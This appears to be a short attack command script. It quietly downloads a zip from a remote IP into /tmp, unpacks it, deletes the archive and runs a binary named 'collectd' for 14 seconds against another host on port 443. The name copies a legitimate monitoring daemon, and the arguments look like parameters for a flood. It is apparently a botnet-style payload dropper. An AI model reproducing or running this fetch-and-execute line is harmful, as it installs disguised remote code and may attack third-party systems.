# a zip archive from the web, unpacked by unzip; the archive is removed
#http 203.0.113.77:8017
#pool 198.51.100.123:443:drop
cd /tmp; wget -q http://203.0.113.77:8017/collectd.zip; unzip -q collectd.zip; rm collectd.zip; timeout 14 ./collectd 198.51.100.123 443 1500 6
